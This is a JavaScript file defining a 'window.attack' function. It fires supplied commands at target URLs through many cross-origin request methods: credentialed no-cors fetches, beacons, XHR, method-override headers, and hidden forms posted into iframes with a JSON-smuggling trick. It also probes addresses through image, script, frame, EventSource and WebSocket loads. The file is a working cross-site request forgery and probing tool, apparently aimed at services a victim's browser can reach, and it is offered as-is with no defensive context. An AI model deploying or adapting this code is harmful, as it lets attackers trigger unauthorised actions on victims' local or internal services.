const pause = (ms) => new Promise((wake) => setTimeout(wake, ms));
const quiet = async (work) => { try { return await work(); } catch (error) { return String(error); } };
const add = (name, fields) => { const made = Object.assign(document.createElement(name), fields); document.body.append(made); return made; };
const sink = (name) => { const frame = add("iframe", { name }); return frame; };

const form = async (url, body, enctype, target) => {
  sink(target);
  const made = add("form", { action: url, method: "post", enctype, target });
  const [name, value] = [body.slice(0, -1) + ',"x":"', '"}'];
  made.append(Object.assign(document.createElement("input"), { name: body === "{}" ? "x" : name, value }));
  made.submit();
};

const commands = {
  "no-cors": (c) => c.method === "POST" && fetch(c.url, { method: "POST", mode: "no-cors", body: c.body }),
  "no-cors, credentials, no referrer": (c) => c.method === "POST" && fetch(c.url, { method: "POST", mode: "no-cors", credentials: "include", referrerPolicy: "no-referrer", body: new Blob([c.body], { type: "text/plain" }) }),
  "no-cors without a body": (c) => c.method === "POST" && fetch(c.url, { method: "POST", mode: "no-cors" }),
  "keepalive": (c) => c.method === "POST" && fetch(c.url, { method: "POST", mode: "no-cors", keepalive: true, body: c.body }),
  "cors, simple": (c) => c.method === "POST" && fetch(c.url, { method: "POST", headers: { "content-type": "text/plain" }, body: c.body }),
  "cors, JSON": (c) => fetch(c.url, { method: c.method, headers: { "content-type": "application/json" }, body: c.body }),
  "cors, override": (c) => fetch(c.url, { method: "POST", headers: { "x-http-method-override": c.method }, body: c.body }),
  "xhr": (c) => new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open(c.method, c.url); x.send(c.body); }),
  "beacon": (c) => c.method === "POST" && navigator.sendBeacon(c.url, c.body),
  "beacon, form": (c) => c.method === "POST" && navigator.sendBeacon(c.url, new URLSearchParams({ x: c.body })),
  "form urlencoded": (c, n) => c.method === "POST" && form(c.url, c.body, "application/x-www-form-urlencoded", `u${n}`),
  "form multipart": (c, n) => c.method === "POST" && form(c.url, c.body, "multipart/form-data", `m${n}`),
  "form text": (c, n) => c.method === "POST" && form(c.url, c.body, "text/plain", `t${n}`),
  "redirect": (c) => c.method === "POST" && fetch(`REDIRECT${encodeURIComponent(c.url)}`, { method: "POST", mode: "no-cors", body: c.body }),
  "form, redirect": (c, n) => c.method === "POST" && form(`REDIRECT${encodeURIComponent(c.url)}`, c.body, "text/plain", `r${n}`),
  "ping": (c) => { if (c.method === "POST") add("a", { href: "#", ping: c.url }).click(); },
};

const readings = {
  "image": (url) => { add("img", { src: url }); },
  "prefetch": (url) => { add("link", { rel: "prefetch", href: url }); },
  "script": (url) => { add("script", { src: url }); },
  "style": (url) => { add("link", { rel: "stylesheet", href: url }); },
  "frame": (url) => { add("iframe", { src: url }); },
  "object": (url) => { add("object", { data: url }); },
  "video": (url) => { add("video", { src: url, preload: "auto" }); },
  "no-cors": (url) => fetch(url, { mode: "no-cors" }),
  "cors": (url) => fetch(url),
  "event source": (url) => { const made = new EventSource(url); setTimeout(() => made.close(), 1500); },
  "websocket": (url) => { new WebSocket(url.replace("http", "ws")); },
  "redirect": (url) => { add("img", { src: `REDIRECT${encodeURIComponent(url)}` }); },
};

// Commands {method, url, body} each way, then addresses each way; as many as were tried.
window.attack = async (given, addresses) => {
  let tried = 0;
  for (const command of given) for (const [name, way] of Object.entries(commands)) { await Promise.race([quiet(() => way(command, tried)), pause(400)]); tried += 1; }
  for (const url of addresses) for (const [name, way] of Object.entries(readings)) { await Promise.race([quiet(() => way(url)), pause(400)]); tried += 1; }
  await pause(1000);
  return tried;
};
